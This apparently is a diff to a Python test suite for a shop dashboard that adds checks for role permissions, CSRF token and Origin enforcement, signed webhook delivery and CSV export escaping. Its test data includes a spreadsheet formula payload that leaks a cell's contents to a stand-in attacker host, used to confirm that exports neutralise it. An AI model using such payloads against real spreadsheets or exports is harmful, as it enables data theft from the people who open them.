@@ -25,6 +25,7 @@ from fastapi.openapi.utils import get_openapi
 from fastapi.routing import APIRoute
 
 from shopmind import web
+from shopmind.audiences import SIGNATURE_HEADER, add_webhook, verify_signature
 from shopmind.core import FixedClock, verify_password
 from shopmind.segments import spreadsheet_safe, write_csv
 from shopmind.store import (
@@ -41,8 +42,10 @@ from shopmind.store import (
 )
 from shopmind.web import _login
 from tests.serving import DashboardClient, Server
+from tests.test_exports_webhook import Receiver
 
 AS_OF = datetime(2026, 4, 1, tzinfo=UTC)
+WEBHOOK_SECRET = "whsec_door_0123456789abcdef"
 #: member ids a visitor could send, each starting like a spreadsheet formula, and a plain one
 HOSTILE = {
     "p1": '=HYPERLINK("http://evil.example/?leak="&A2,"보기")',
@@ -60,6 +63,7 @@ HTML = {"Accept": "text/html"}
 class Door:
     server: Server
     passwords: dict[str, str]  # login (= the role's name) → password
+    receiver: Receiver  # the webhook destination "crm" the shop's admin registered
 
     def sign_in(self, login: str, **headers: str) -> DashboardClient:
         return self.server.dashboard(login, self.passwords[login], **headers)
@@ -86,14 +90,17 @@ def _plant_audience(store: Store) -> None:
 @pytest.fixture(scope="module")
 def door(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Door]:
     folder = tmp_path_factory.mktemp("door") / "shop"
+    receiver = Receiver()
     with Workspace.init(folder).open_store() as store:
         _plant_audience(store)
+        add_webhook(store, "crm", receiver.url, created_by="test", secret=WEBHOOK_SECRET)
     server = Server(folder, args=("--no-recommender",))
     passwords = {role: server.add_user(role, role) for role in ("owner", "marketer", "viewer")}
     server.start()
     try:
-        yield Door(server, passwords)
+        yield Door(server, passwords, receiver)
     finally:
+        receiver.close()
         assert server.stop() == 0
 
 
@@ -435,6 +442,84 @@ def test_the_audience_csv_writes_formula_like_ids_as_text(door: Door) -> None:
         assert float(row[2]) > 0  # numbers stay numbers
 
 
+def test_segments_each_role_does_what_it_may_and_every_post_needs_its_token(door: Door) -> None:
+    """Viewers see segments and preview them; only marketers (and owners) save, count again and
+    export; every POST of the Segments page needs the session's CSRF token from this origin; the
+    saved segment's CSV writes formula-like member ids as text."""
+    viewer, marketer = door.sign_in("viewer"), door.sign_in("marketer")
+    state = {
+        "name_ko": "역할 시험 세그먼트",
+        "conditions": [{"kind": "profile", "field": "purchase_probability_7d", "low": "0"}],
+    }
+    form = {"state": json.dumps(state)}
+    for client in (viewer, marketer):
+        assert client.get("/dashboard/segments").status_code == 200
+        assert client.get("/dashboard/segments/new").status_code == 200
+        found = client.post(
+            "/dashboard/segments/preview",
+            json=state,
+            headers={"X-CSRF-Token": client.csrf, "Accept": "application/json"},
+        )
+        assert found.status_code == 200 and found.json()["count"] == len(HOSTILE), found.text
+    assert 'id="save-segment"' not in viewer.get("/dashboard/segments/new").text
+    assert viewer.post("/dashboard/segments/new", data={**form, "csrf_token": viewer.csrf}).status_code == 403
+    for extra, headers in (
+        ({}, {}),
+        ({"csrf_token": "0" * 64}, {}),
+        ({"csrf_token": marketer.csrf}, {"Origin": "https://evil.example"}),
+    ):
+        answer = marketer.post("/dashboard/segments/new", data={**form, **extra}, headers=headers)
+        assert answer.status_code == 403, (extra, headers)
+    no_header = marketer.post(
+        "/dashboard/segments/preview", json=state, headers={"Accept": "application/json"}
+    )
+    assert no_header.status_code == 403
+    assert "역할 시험 세그먼트" not in marketer.get("/dashboard/segments").text  # nothing was saved
+    saved = marketer.post("/dashboard/segments/new", data={**form, "csrf_token": marketer.csrf})
+    assert saved.status_code == 303, saved.text[:500]
+    page = saved.headers["location"].split("?")[0]
+    segment_id = page.rsplit("/", 1)[1]
+    seen = viewer.get(page)
+    assert (
+        seen.status_code == 200 and 'id="export-csv"' not in seen.text and 'id="marketer-only"' in seen.text
+    )
+    for action in ("export", "refresh", "webhook"):
+        answer = viewer.post(
+            f"/dashboard/segments/{segment_id}/{action}",
+            data={"csrf_token": viewer.csrf, "format": "csv", "destination": "crm"},
+        )
+        assert answer.status_code == 403, action
+        answer = marketer.post(f"/dashboard/segments/{segment_id}/{action}", data={"format": "csv"})
+        assert answer.status_code == 403, action  # no token
+    answer = marketer.post(
+        f"/dashboard/segments/{segment_id}/export", data={"csrf_token": marketer.csrf, "format": "csv"}
+    )
+    assert answer.status_code == 200 and answer.content.startswith("\ufeff".encode())
+    assert answer.headers["cache-control"] == "no-store"
+    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    members = {r["profile_id"]: r["member_id"] for r in rows}
+    assert set(members) == set(HOSTILE)
+    for pid, member in HOSTILE.items():
+        assert members[pid] == (member if pid == "p7" else "'" + member), pid
+    recount = marketer.post(f"/dashboard/segments/{segment_id}/refresh", data={"csrf_token": marketer.csrf})
+    assert recount.status_code == 303 and "done=refreshed&entered=0&exited=0" in recount.headers["location"]
+    # the registered webhook: offered on the page, the members sent signed, the page says so
+    assert '<option value="crm">crm</option>' in marketer.get(page).text
+    sent = marketer.post(
+        f"/dashboard/segments/{segment_id}/webhook", data={"csrf_token": marketer.csrf, "destination": "crm"}
+    )
+    assert sent.status_code == 303 and sent.headers["location"].endswith(f"done=sent&n={len(HOSTILE)}&to=crm")
+    headers, body, status = door.receiver.got[-1]
+    assert status == 200 and verify_signature(WEBHOOK_SECRET, headers[SIGNATURE_HEADER], body)
+    assert {m["profile_id"] for m in json.loads(body)["members"]} == set(HOSTILE)
+    assert "웹훅 crm으로 고객 7명을 보냈습니다." in marketer.get(sent.headers["location"]).text
+    missing = marketer.post(
+        f"/dashboard/segments/{segment_id}/webhook", data={"csrf_token": marketer.csrf, "destination": "nope"}
+    )
+    assert missing.status_code == 303 and missing.headers["location"].endswith("problem=no_destination")
+    assert marketer.get("/dashboard/segments/0000").status_code == 404
+
+
 def test_spreadsheet_safe_and_write_csv() -> None:
     assert spreadsheet_safe("=1+1") == "'=1+1"
     assert spreadsheet_safe("김치") == "김치"
@@ -561,6 +646,9 @@ def test_fuzzing_the_dashboards_forms_finds_no_server_error(door: Door, tmp_path
         "/dashboard/users/{user_id}/disable",
         "/dashboard/users/{user_id}/sessions/revoke",
         "/dashboard/predictions/audiences",
+        "/dashboard/segments/preview",
+        "/dashboard/segments/new",
+        "/dashboard/segments/{segment_id}/export",
     } <= posts
     owner = door.sign_in("owner")
     # an account of its own for the fuzzer to change, disable and sign out (an example it tries)
